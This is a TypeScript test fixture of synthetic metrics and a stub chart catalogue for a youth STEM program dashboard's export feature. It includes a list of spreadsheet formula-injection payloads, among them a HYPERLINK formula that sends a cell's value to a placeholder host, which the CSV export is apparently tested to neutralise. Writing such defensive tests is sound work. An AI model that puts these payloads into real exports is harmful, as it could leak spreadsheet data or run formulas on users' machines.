import type { TopLevelSpec } from 'vega-lite';
import { buildCountByChart } from '../../../src/core/charts/count-by-chart';
import type { ChartModel } from '../../../src/core/charts/model';
import type { GroupKey, MetricsResult } from '../../../src/shared/metrics';
import type { CatalogueEntry, MetricsQuery } from '../../../src/main/export/chart-source';

/**
 * A small chart catalogue and metrics result standing in for the dashboards' catalogue and the
 * metrics engine (built in parallel), shaped exactly like their contracts: MetricsResult rows with
 * suppression already applied, ChartModel with spec, caption, alt and table. Labels are the ones
 * other tools break on.
 */

export const LABELS = {
  library: 'Cañon City Library',
  zoe: 'Zoë',
  pilot: 'Florence & Penrose <pilot>',
} as const;

const g = (dimension: string, code: string, label: string): GroupKey => ({ [dimension]: { code, label } });
const privacy = { suppressed: false, suppressionReason: null };
const hidden = { n: null, suppressed: true, suppressionReason: 'n < 10' };

export function sampleMetrics(query: Pick<MetricsQuery, 'by' | 'filters'>): MetricsResult {
  const bySite = query.by.includes('site');
  const byType = query.by.includes('partner_type');
  const byProgram = query.by.includes('program');
  const byCohort = query.by.includes('cohort');
  const reachRow = (group: GroupKey, youth: number) => ({
    group,
    youthServed: youth,
    youthEnrolled: youth + 6,
    mentorsEngaged: 6,
    partnersActive: 3,
    sessionsOffered: 48,
    n: youth,
    ...privacy,
  });
  const reach = bySite
    ? [
        reachRow(g('site', 'CCL', LABELS.library), 34),
        reachRow(g('site', 'ZOE', LABELS.zoe), 21),
        {
          group: g('site', 'FP', LABELS.pilot),
          youthServed: null,
          youthEnrolled: null,
          mentorsEngaged: 2,
          partnersActive: 1,
          sessionsOffered: 12,
          ...hidden,
        },
      ]
    : byProgram
      ? [reachRow(g('program', 'CLUB', 'Maker Club'), 41), reachRow(g('program', 'CAMP', 'Summer camp'), 24)]
      : [reachRow({}, 58)];
  const dosageRow = (group: GroupKey, n: number) => ({
    group,
    contactHoursTotal: n * 21.4,
    contactHoursMean: 21.4,
    contactHoursMedian: 18,
    sessionsAttendedMean: 12.3,
    attendanceRateMean: 0.71,
    intensityHoursPerWeekMean: 1.6,
    durationWeeksMean: 13.2,
    breadthMean: 2.1,
    regularAttendees: Math.round(n * 0.4),
    regularAttendeesShare: 0.4,
    n,
    ...privacy,
  });
  const prePost = (scale: string, scaleName: string, pre: number, post: number, n: number) => ({
    group: {},
    scale,
    scaleName,
    design: 'pre_post' as const,
    nMatched: n,
    meanPre: pre,
    meanPost: post,
    sdPre: 0.7,
    sdPost: 0.68,
    meanDiff: post - pre,
    sdDiff: 0.55,
    ciLow: post - pre - 0.16,
    ciHigh: post - pre + 0.16,
    t: ((post - pre) / 0.55) * Math.sqrt(n),
    df: n - 1,
    p: post - pre > 0.2 ? 0.00002 : 0.41,
    dz: (post - pre) / 0.55,
    gav: (post - pre) / 0.69,
    wilcoxonP: post - pre > 0.2 ? 0.00004 : 0.38,
    effectSizeName: 'g_av',
    reason: null,
    n,
    ...privacy,
  });
  return {
    filters: query.filters,
    by: query.by,
    threshold: 10,
    computedAt: '2026-05-01T12:00:00.000Z',
    reach,
    dosage: byProgram
      ? [
          dosageRow(g('program', 'CLUB', 'Maker Club'), 41),
          dosageRow(g('program', 'CAMP', 'Summer camp'), 24),
        ]
      : [dosageRow({}, 58)],
    dosageBands: [],
    retention: [
      {
        group: {},
        kind: 'survey',
        nBase: 52,
        nRetained: 44,
        rate: 44 / 52,
        ciLow: 0.72,
        ciHigh: 0.92,
        n: 52,
        ...privacy,
      },
    ],
    scales: [
      {
        group: {},
        scale: 'interest',
        scaleName: 'STEM interest',
        wave: 'pre',
        mean: 3.12,
        sd: 0.7,
        ciLow: 2.93,
        ciHigh: 3.31,
        percentAgree: 0.41,
        percentAgreeCiLow: 0.3,
        percentAgreeCiHigh: 0.53,
        n: 52,
        ...privacy,
      },
    ],
    reliability: [
      {
        scale: 'interest',
        scaleName: 'STEM interest',
        wave: 'pre',
        k: 3,
        alpha: 0.81,
        nComplete: 49,
        reason: null,
        n: 52,
        ...privacy,
      },
      {
        scale: 'identity',
        scaleName: 'STEM identity',
        wave: 'pre',
        k: 4,
        alpha: 0.62,
        nComplete: 47,
        reason: null,
        n: 51,
        ...privacy,
      },
    ],
    items: [],
    prePost: [
      prePost('interest', 'STEM interest', 3.12, 3.58, 44),
      prePost('identity', 'STEM identity', 3.4, 3.46, 43),
    ],
    prePostByDosage: [],
    matchReport: [
      {
        group: byCohort ? g('cohort', '2025-26', '2025-26') : {},
        nPre: 52,
        nPost: 47,
        matched: 44,
        onlyPre: 8,
        onlyPost: 3,
        duplicates: 1,
        n: 44,
        ...privacy,
      },
    ],
    partnerHealth: byType
      ? [
          {
            group: g('partner_type', 'school', 'School'),
            factor: 'communication',
            factorName: 'Open and frequent communication',
            mean: 4.2,
            sd: 0.5,
            band: 'strength',
            n: 12,
            ...privacy,
          },
        ]
      : [],
    contributions: [
      {
        group: {},
        partnerKey: 'P01',
        partnerName: LABELS.library,
        partnerType: 'out_of_school_provider',
        mentorHours: 120.5,
        sessionsLed: 14,
        equipmentItems: 3,
        fundingUsd: 5000,
        inKindUsd: 1200,
        mentors: 4,
        youthReached: 34,
        youthReachedSuppressed: false,
      },
      {
        group: {},
        partnerKey: 'P02',
        partnerName: 'Zoë’s Robotics LLC',
        partnerType: 'business',
        mentorHours: 16,
        sessionsLed: 2,
        equipmentItems: 0,
        fundingUsd: 0,
        inKindUsd: 300,
        mentors: 1,
        youthReached: null,
        youthReachedSuppressed: true,
      },
    ],
    goals: [],
  };
}

function reachBySite(m: MetricsResult): ChartModel {
  const groups = m.reach.map((r) => ({
    value: r.group['site']?.label ?? 'All',
    count: r.youthServed,
    suppressed: r.suppressed,
    reason: r.suppressionReason,
  }));
  return {
    id: 'reach-by-site',
    title: 'Youth reached per site',
    caption: {
      shows: 'Youth reached per site in the 2025-26 school year.',
      n: '55 youth',
      statistic: 'count of distinct youth',
      suppression: 'Sites with fewer than 10 youth are suppressed.',
    },
    spec: buildCountByChart({ column: 'site', groups, threshold: m.threshold }),
    alt: `Bar chart of youth reached per site: ${LABELS.library} 34, ${LABELS.zoe} 21, ${LABELS.pilot} suppressed.`,
    table: {
      columns: ['Site', 'Youth reached', 'Note'],
      rows: m.reach.map((r) => [
        r.group['site']?.label ?? 'All',
        r.youthServed,
        r.suppressed ? `suppressed (${r.suppressionReason})` : '',
      ]),
    },
  };
}

function outcomeChange(m: MetricsResult): ChartModel {
  const data = m.prePost.flatMap((r) => [
    { scale: r.scaleName, wave: 'Pre', mean: r.meanPre },
    { scale: r.scaleName, wave: 'Post', mean: r.meanPost },
  ]);
  const spec: TopLevelSpec = {
    $schema: 'https://vega.github.io/schema/vega-lite/v6.json',
    title: { text: 'Mean scale score before and after', subtitle: 'Matched youth, 1–5' },
    width: 480,
    height: { step: 18 },
    data: { values: data },
    mark: 'bar',
    encoding: {
      y: { field: 'scale', type: 'nominal', title: null },
      yOffset: { field: 'wave', sort: ['Pre', 'Post'] },
      x: { field: 'mean', type: 'quantitative', scale: { domain: [1, 5] }, title: 'Mean (1–5)' },
      color: { field: 'wave', sort: ['Pre', 'Post'], title: 'Wave' },
    },
  };
  return {
    id: 'outcomes-change',
    title: 'Change in scale scores',
    caption: {
      shows: 'Mean scale scores of matched youth before and after the program.',
      n: '44 matched youth',
      statistic: "mean, paired t test, Hedges' g_av",
    },
    spec,
    alt: 'STEM interest rose from 3.12 to 3.58; STEM identity was flat (3.40 to 3.46).',
    table: {
      columns: ['Scale', 'Mean pre', 'Mean post', 'n'],
      rows: m.prePost.map((r) => [r.scaleName, r.meanPre, r.meanPost, r.nMatched]),
    },
  };
}

/** A table whose text cells carry spreadsheet-formula payloads: what the CSV must neutralise. */
export const INJECTION_PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+2',
  '\r=1+2',
  '=1+2\nmore text',
  'line one\n=1+2',
  'Zoë said "hi", then left',
] as const;

function freeText(): ChartModel {
  return {
    id: 'partners-comments',
    title: 'Partner comments',
    caption: { shows: 'What partners wrote.' },
    spec: buildCountByChart({
      column: 'comment',
      threshold: 10,
      groups: INJECTION_PAYLOADS.map((p) => ({
        value: p.replace(/\s+/g, ' '),
        count: 12,
        suppressed: false,
      })),
    }),
    alt: 'Partner comments.',
    table: { columns: ['Comment', 'Count', '=Header'], rows: INJECTION_PAYLOADS.map((p) => [p, 12, -0.42]) },
  };
}

export const STUB_CATALOGUE: readonly CatalogueEntry[] = [
  {
    id: 'reach-by-site',
    title: 'Youth reached per site',
    page: 'reach',
    by: ['site'],
    sections: ['reach'],
    build: reachBySite,
  },
  {
    id: 'outcomes-change',
    title: 'Change in scale scores',
    page: 'outcomes',
    by: [],
    sections: ['prePost'],
    build: outcomeChange,
  },
  {
    id: 'partners-comments',
    title: 'Partner comments',
    page: 'partners',
    by: [],
    sections: [],
    build: freeText,
  },
  {
    id: 'cohorts-compare',
    title: 'Cohorts compared',
    page: 'cohorts',
    by: [],
    sections: ['prePost'],
    build: (m) => ({
      id: 'cohorts-compare',
      title: 'Cohorts compared',
      caption: { shows: 'Scale means by cohort.' },
      spec: outcomeChange(m).spec,
      alt: 'Nothing to compare yet.',
      table: { columns: [], rows: [] },
      empty: 'Import a second cohort’s surveys to compare cohorts.',
    }),
  },
];
